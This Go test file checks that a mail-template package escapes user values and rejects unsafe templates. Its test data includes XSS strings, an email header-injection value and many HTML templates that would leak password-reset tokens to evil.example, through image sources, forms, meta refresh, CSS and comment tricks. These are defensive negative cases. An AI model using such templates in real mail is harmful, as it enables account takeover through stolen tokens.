package mail

import (
	"html"
	"regexp"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

var eva = Values{
	Name: "Eva", VerifyURL: "https://acme.example/verify?token=abc&x=1", ResetURL: "https://acme.example/reset-password?token=def",
	AppURL: "https://portal.acme.example", TenantName: "Acme GmbH",
}

func TestATemplateIsFilledInOnce(t *testing.T) {
	v := eva
	v.Name = `{{verify_url}} <b a="1">&`
	filled := Template{
		Subject: "Hi {{name}}", Text: "{{ name }}: {{verify_url}} {{unknown}} {{", HTML: `<a href="{{verify_url}}">{{name}}</a> {{ {{tenant_name}}`,
	}.Render(v)
	subject, text, htmlText := filled.Subject, filled.Text, filled.HTML
	if subject != `Hi {{verify_url}} <b a="1">&` {
		t.Error(subject)
	}
	if text != `{{verify_url}} <b a="1">&: https://acme.example/verify?token=abc&x=1 {{unknown}} {{` {
		t.Error(text)
	}
	if htmlText != `<a href="https://acme.example/verify?token=abc&amp;x=1">{{verify_url}} &lt;b a=&#34;1&#34;&gt;&amp;</a> {{ Acme GmbH` {
		t.Error(htmlText)
	}
}

func TestAValueCannotLeaveItsPlace(t *testing.T) {
	hostile := rapid.OneOf(rapid.String(), rapid.SampledFrom([]string{
		`"><script>alert(1)</script>`, "' onmouseover='x", "a\r\nBcc: x", "{{name}}", "}}{{verify_url}}", "</title><img src=x>", "\u202e", "\x00\xff", "<!--",
	}))
	rapid.Check(t, func(t *rapid.T) {
		v := Values{Name: hostile.Draw(t, "name"), VerifyURL: hostile.Draw(t, "url"), TenantName: hostile.Draw(t, "tenant")}
		filled := Template{
			Subject: "[{{name}}|{{tenant_name}}]", Text: "[{{name}}|{{verify_url}}]", HTML: `<a href="{{verify_url}}" title='{{tenant_name}}'>{{name}}</a>`,
		}.Render(v)
		subject, text, htmlText := filled.Subject, filled.Text, filled.HTML
		if strings.ContainsAny(subject+text, "\r\n\x00\x1b\u2028\u202e") || len([]rune(subject)) > maxSubject {
			t.Fatalf("%q %q", subject, text)
		}
		m := regexp.MustCompile(`^<a href="([^"<>]*)" title='([^'<>]*)'>([^<>]*)</a>$`).FindStringSubmatch(htmlText)
		if len(m) != 4 || html.UnescapeString(m[1]) != oneLine(v.VerifyURL, maxURL) || html.UnescapeString(m[3]) != oneLine(v.Name, maxName) {
			t.Fatalf("%q", htmlText)
		}
	})
}

func TestATemplateIsChecked(t *testing.T) {
	for want, template := range map[string]Template{
		"":                       {Subject: "Hi {{name}}", Text: "a { b } }} {{ app_url }}", HTML: `<!-- it's {{name}} --><p style="x">1 < 2 {{tenant_name}} "<a href='{{reset_url}}'>x</a>`},
		"subject: found {{x}}":   {Subject: "{{x}}"},
		"text: found {{Name}}":   {Text: "{{Name}}"},
		"html: found {{name x}}": {HTML: "{{name x}}"},
		"text: found {{ that":    {Text: "{{name"},
		"text: found {{}}":       {Text: "{{}}"},
		"text: found {{{name}}":  {Text: "{{{name}}"},
		"subject: expected one line without control characters": {Subject: "a\r\nBcc: x"},
		"html: {{verify_url}} is part of a tag":                 {HTML: "<a href={{ verify_url }}>x</a>"},
		"html: {{name}} is part of a tag":                       {HTML: `<p title="a" {{name}}>`},
		"html: {{app_url}} is part of a tag":                    {HTML: `<{{app_url}}>`},
	} {
		err := template.Check()
		if (err == nil) != (want == "") || err != nil && !strings.HasPrefix(err.Error(), want) {
			t.Errorf("%+v: %v, want %q", template, err, want)
		}
	}
}

// A link with a token is read by who gets the mail, and goes nowhere else.
func TestALinkWithATokenStaysInItsMail(t *testing.T) {
	for _, good := range []Template{
		{Text: "{{reset_url}}", HTML: `{{reset_url}} <a class="b" href="{{reset_url}}">here: <b>{{verify_url}}</b></a><p>({{ verify_url }})</p>`},
		{Text: "Your link:\n\t<{{verify_url}}>.", HTML: `<!doctype html><style>p{color:red}</style><img src="https://acme.example/logo.png" alt="{{name}}"><a href=' {{verify_url}} '>x</a>`},
		{Subject: "{{name}}", Text: "https://acme.example/?from={{app_url}}", HTML: `<img src="https://acme.example/{{tenant_name}}.png"><!-- {{app_url}} -->`},
	} {
		if err := good.Check(); err != nil {
			t.Errorf("%+v: %v", good, err)
		}
	}
	for _, bad := range []Template{
		{Subject: "{{reset_url}}"}, {Subject: "{{ verify_url }}"},
		{Text: "https://evil.example/?{{reset_url}}"}, {Text: "x:{{verify_url}}"},
		{HTML: `<img src="https://evil.example/?{{reset_url}}">`}, {HTML: `<img src="{{reset_url}}">`}, {HTML: `<a href="https://evil.example/?{{reset_url}}">x</a>`},
		{HTML: `<a href="{{reset_url}}" ping="https://evil.example/{{reset_url}}">x</a>`}, {HTML: `<link rel="stylesheet" href="{{reset_url}}">`},
		{HTML: `<img src='https://evil.example/? {{reset_url}}`}, {HTML: `<img src='https://evil.example/? {{reset_url}} '>`},
		{HTML: `<p style="background:url(https://evil.example/{{reset_url}})">`}, {HTML: `<style>@import "https://evil.example/ {{reset_url}}";</style>`},
		{HTML: `<!--><img src="https://evil.example/?{{reset_url}}"> -->`}, {HTML: `<!-- {{reset_url}} -->`}, {HTML: `<!--[if mso]> {{reset_url}} <![endif]-->`},
		{HTML: `<!-- <a x=' --><img src='https://evil.example/? href="{{reset_url}}">`}, {HTML: `<title><a x='</title><img src='https://evil.example/? href="{{reset_url}}">`},
		{HTML: `<noscript><img src="https://evil.example/?</noscript><a href='{{reset_url}}'>x</a>">`},
		{HTML: `<form action="https://evil.example"><textarea name="t">{{reset_url}}</textarea><button>Go</button></form>`},
		{HTML: `<form action="https://evil.example"><select name="t"><option>{{reset_url}}</option></select></form>`},
		{HTML: `<form action="https://evil.example"><input type="hidden" name="t" value="{{reset_url}}"></form>`},
		{HTML: `<meta http-equiv="refresh" content="0;url=https://evil.example/?{{reset_url}}">`}, {HTML: `<svg><a href="{{reset_url}}">x</a></svg>`},
		{HTML: `<a href="&#104;ttps://evil.example/?&#123;{{reset_url}}">x</a>`}, {HTML: `https://evil.example/?{{reset_url}}`},
	} {
		if err := bad.Check(); err == nil {
			t.Errorf("%+v is accepted", bad)
		}
	}
}

func TestTheDefaultsSayWhatTheyAreFor(t *testing.T) {
	for name, want := range map[string]string{Verification: eva.VerifyURL, PasswordReset: eva.ResetURL, Welcome: eva.AppURL} {
		d, ok := Default(name)
		if !ok {
			t.Fatal(name)
		}
		if err := d.Check(); err != nil {
			t.Errorf("%s: %v", name, err)
		}
		filled := d.Render(eva)
		subject, text, htmlText := filled.Subject, filled.Text, filled.HTML
		all := subject + text + htmlText
		left := regexp.MustCompile(`\[[a-z]+\]|\{\{|\}\}`).FindAllString(strings.ReplaceAll(all, "[endif]", ""), -1)
		if len(left) > 0 {
			t.Errorf("%s: not filled in: %v", name, left)
		}
		if !strings.Contains(subject, "Acme GmbH") || !strings.Contains(text, "\n\n"+want+"\n\n") || !strings.Contains(text, "Hello Eva,") {
			t.Errorf("%s: %s\n%s", name, subject, text)
		}
		escaped := html.EscapeString(want)
		if strings.Count(htmlText, `href="`+escaped+`"`) != 2 || !strings.Contains(htmlText, ">"+escaped+"</a>") || !strings.Contains(htmlText, "Hello Eva,") {
			t.Errorf("%s: %s", name, htmlText)
		}
		for _, never := range []string{"<script", "<img", "<link", "<style", "url(", "http://"} {
			if strings.Contains(htmlText, never) {
				t.Errorf("%s: contains %s", name, never)
			}
		}
	}
	if _, ok := Default("other"); ok {
		t.Error("there is no such mail")
	}
}
